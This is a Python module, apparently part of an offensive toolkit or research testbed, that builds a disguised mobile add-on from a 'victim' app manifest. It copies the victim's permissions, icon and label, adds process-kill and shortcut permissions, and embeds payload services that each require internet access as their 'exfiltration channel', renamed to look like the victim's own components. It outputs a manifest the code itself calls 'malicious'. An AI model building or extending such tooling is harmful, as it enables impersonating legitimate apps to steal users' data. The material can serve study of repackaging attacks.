"""The add-on customization pipeline.

Transforms (victim manifest, add-on template, payload catalog) into a
customized add-on manifest plus a trimmed payload manifest, in four steps:

  1. permissions/features: the template's declare-everything set is replaced
     by the victim's, plus the shortcut and process-kill extras;
  2. payload trimming: catalog services whose permissions the victim does
     not declare are dropped;
  3. components: victim components are copied name-for-name, the surviving
     payload services are renamed to correlate with the victim and embedded,
     and the template's framework components are renamed by swapping their
     "Plugin" prefix for the victim's label;
  4. resources: the victim's launcher icon and label become the add-on's
     shortcut resources.

The steps compute field values only; ``customize`` then builds the add-on
and the payload manifest once each, the payload declaring exactly the
permissions its surviving services require.

The payload catalog is a services-only manifest that ``check_catalog``
accepts. The pipeline is a pure transformation (identical outputs for identical
inputs, durations aside) and safe to fan out across workers.
"""

from __future__ import annotations

import time
from dataclasses import dataclass

from .manifest import (
    KIND_KEYS,
    AppManifest,
    Component,
    NoLauncherError,
    SchemaError,
    launcher_activity,
)
from .permissions import ADDON_EXTRA_PERMISSIONS, INTERNET, PAYLOAD_STORES

FRAMEWORK_PREFIX = "Plugin"


class CustomizationInvariantError(RuntimeError):
    """A pipeline output violates one of its contracted laws."""


@dataclass
class CustomizationResult:
    addon: AppManifest
    malicious: AppManifest
    rename_map: dict[str, str]
    report: list[dict]


def check_catalog(m: AppManifest) -> AppManifest:
    """Return ``m`` if it is a valid payload catalog, else raise SchemaError:
    services only, at least one, each requiring INTERNET (the exfiltration
    channel) and carrying a known payload tag."""
    if m.activities or m.receivers or m.providers:
        raise SchemaError(f"{m.package}: payload catalogs declare services only")
    if not m.services:
        raise SchemaError(f"{m.package}: payload catalog has no services")
    for svc in m.services:
        if INTERNET not in svc.requires_permissions:
            raise SchemaError(f"{svc.name}: catalog services must require INTERNET")
        if svc.payload is None:
            raise SchemaError(f"{svc.name}: catalog service lacks a payload tag")
        if svc.payload not in PAYLOAD_STORES:
            raise SchemaError(f"{svc.name}: unknown payload tag {svc.payload!r}")
    return m


def _correlated_name(name: str, victim_label: str) -> str:
    prefix = "".join(victim_label.split())
    if name.startswith(FRAMEWORK_PREFIX):
        return prefix + name[len(FRAMEWORK_PREFIX):]
    return name


def _named(comp: Component, name: str) -> Component:
    if name == comp.name:
        return comp
    return Component(name, comp.kind, comp.launcher, comp.intents,
                     comp.requires_permissions, comp.payload, comp.stub)


def _merge_components(
    victim: AppManifest, services: list[Component], addon_template: AppManifest
) -> tuple[dict[str, list[Component]], dict[str, str], list[Component]]:
    """Step 3: the add-on's components by kind, the framework rename map, and
    the payload services under their final names.

    Payload services are renamed to correlate with the victim. Collisions are
    resolved by suffixing ``_c<k>`` with the smallest k that frees the name;
    victim components are placed first so their names always survive verbatim.
    """
    used: set[str] = set()
    by_kind: dict[str, list[Component]] = {k: [] for k in KIND_KEYS}

    def free(name: str) -> str:
        final, k = name, 0
        while final in used:
            k += 1
            final = f"{name}_c{k}"
        used.add(final)
        return final

    # Victim and payload components enter the add-on with their name, kind
    # and intents only: launcher flags and catalog bookkeeping are dropped
    # so the add-on keeps a single launcher of its own.
    for comp in victim.components():
        by_kind[comp.kind].append(Component(free(comp.name), comp.kind, intents=comp.intents))
    payload = []
    for svc in services:
        name = free(_correlated_name(svc.name, victim.label))
        by_kind[svc.kind].append(Component(name, svc.kind, intents=svc.intents))
        payload.append(_named(svc, name))

    rename_map: dict[str, str] = {}
    for comp in addon_template.components():
        name = rename_map[comp.name] = free(_correlated_name(comp.name, victim.label))
        by_kind[comp.kind].append(_named(comp, name))
    return by_kind, rename_map, payload


_STEPS = (
    ("permissions", "copy victim permissions and features, add shortcut/kill extras"),
    ("trim_payload", "drop payload services the victim cannot feed"),
    ("components", "embed victim and payload components, rename framework stubs"),
    ("resources", "copy victim launcher icon and label for the shortcut"),
)


def customize(victim: AppManifest, addon_template: AppManifest,
              catalog: AppManifest) -> CustomizationResult:
    """Run steps 1-4 in order, timing each with a monotonic clock, then build
    the add-on and the payload manifest once each."""
    marks = [time.perf_counter()]
    permissions = victim.permissions | ADDON_EXTRA_PERMISSIONS
    marks.append(time.perf_counter())
    kept = [svc for svc in catalog.services if svc.requires_permissions <= victim.permissions]
    marks.append(time.perf_counter())
    by_kind, rename_map, services = _merge_components(victim, kept, addon_template)
    marks.append(time.perf_counter())
    if launcher_activity(victim) is None:
        raise NoLauncherError(f"{victim.package}: no launcher activity declared")
    marks.append(time.perf_counter())
    report = [{"step": step, "detail": detail, "duration_ms": (end - start) * 1000.0}
              for (step, detail), start, end in zip(_STEPS, marks, marks[1:])]

    t = addon_template
    addon = AppManifest(t.package, t.label, t.version, permissions, victim.features,
                        *by_kind.values(), t.launcher_icon, victim.launcher_icon, victim.label,
                        t.native_components)
    malicious = AppManifest(
        catalog.package, catalog.label, catalog.version,
        frozenset().union(*(svc.requires_permissions for svc in kept)),
        services=services, launcher_icon=catalog.launcher_icon)
    result = CustomizationResult(addon=addon, malicious=malicious,
                                 rename_map=rename_map, report=report)
    validate_result(victim, result)
    return result


def validate_result(victim: AppManifest, result: CustomizationResult) -> None:
    """Check the three output laws; raises CustomizationInvariantError."""
    expected = victim.permissions | ADDON_EXTRA_PERMISSIONS
    if result.addon.permissions != expected:
        raise CustomizationInvariantError(
            f"addon permissions {sorted(result.addon.permissions)} != "
            f"victim set plus extras {sorted(expected)}"
        )
    if not result.malicious.permissions <= victim.permissions:
        extra = result.malicious.permissions - victim.permissions
        raise CustomizationInvariantError(
            f"payload declares permissions beyond the victim's: {sorted(extra)}"
        )
    addon_names = {(c.kind, c.name) for c in result.addon.components()}
    for comp in victim.components():
        if (comp.kind, comp.name) not in addon_names:
            raise CustomizationInvariantError(
                f"victim component ({comp.kind}, {comp.name}) missing from addon"
            )
